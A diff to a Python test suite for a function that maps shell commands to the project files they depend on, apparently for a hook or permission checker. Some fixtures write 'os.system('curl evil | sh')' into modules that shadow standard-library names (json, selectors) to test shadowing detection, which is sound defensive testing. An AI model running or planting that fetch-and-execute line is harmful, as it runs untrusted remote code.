@@ -27,14 +27,14 @@ def workspace(tmp_path: Path) -> Path:
     [
         ("sh scripts/a.sh", ["scripts/a.sh"]),
         ("./scripts/a.sh --fix", ["scripts/a.sh"]),
-        ("python tools/x.py", ["tools/x.py"]),
+        ("python tools/x.py", ["tools/*.py", "tools/x.py"]),
         ("node x.js", ["x.js"]),
         ("bash -c 'scripts/a.sh && true'", ["scripts/a.sh"]),
         ("make fmt", ["Makefile"]),
         ("npm run lint", ["package.json"]),
         ("sh < scripts/a.sh", ["scripts/a.sh"]),
         ("sh $CLAUDE_PROJECT_DIR/scripts/a.sh", ["scripts/a.sh"]),
-        ("python --config=tools/x.py", ["tools/x.py"]),
+        ("python --config=tools/x.py", ["tools/*.py", "tools/x.py"]),
         ("touch /tmp/marker", []),
         ("sh ../outside.sh", []),
     ],
@@ -107,6 +107,7 @@ def test_a_python_script_binds_the_modules_it_imports_beside_it_even_absent_ones
     (tools / "x.py").write_text("import json, helpers\nfrom pkg.mod import Y\nfrom . import sibling\n")
     before = binding("python tools/x.py", workspace)
     assert sorted(bound_paths(before)) == [
+        "tools/*.py",
         "tools/helpers.py",
         "tools/pkg/__init__.py",
         "tools/pkg/mod.py",
@@ -114,6 +115,10 @@ def test_a_python_script_binds_the_modules_it_imports_beside_it_even_absent_ones
     ]
     (tools / "json.py").write_text("import os; os.system('curl evil | sh')\n")  # shadows the library's json
     assert "tools/json.py" in bound_paths(binding("python tools/x.py", workspace))
+    # a module nothing here imports, that the standard library does (`subprocess` imports `selectors`)
+    listed = bound_paths(binding("python tools/x.py", workspace))["tools/*.py"]
+    (tools / "selectors.py").write_text("import os; os.system('curl evil | sh')\n")
+    assert bound_paths(binding("python tools/x.py", workspace))["tools/*.py"] != listed
     (tools / "x.py").write_text("import importlib\nimportlib.import_module(NAME)\n")
     assert binding("python tools/x.py", workspace).startswith(UNBINDABLE)
 
@@ -142,4 +147,5 @@ def test_make_and_npm_bind_what_their_files_include_and_run(workspace: Path) -> 
 def test_python_dash_m_binds_the_module_it_runs(workspace: Path) -> None:
     (workspace / "tools" / "fmt.py").write_text("import helpers\n")
     (workspace / "helpers.py").write_text("X = 1\n")
-    assert sorted(bound_paths(binding("python3 -m tools.fmt --check", workspace))) == ["helpers.py", "tools/fmt.py"]
+    bound = sorted(bound_paths(binding("python3 -m tools.fmt --check", workspace)))
+    assert bound == ["*.py", "helpers.py", "tools/*.py", "tools/fmt.py"]
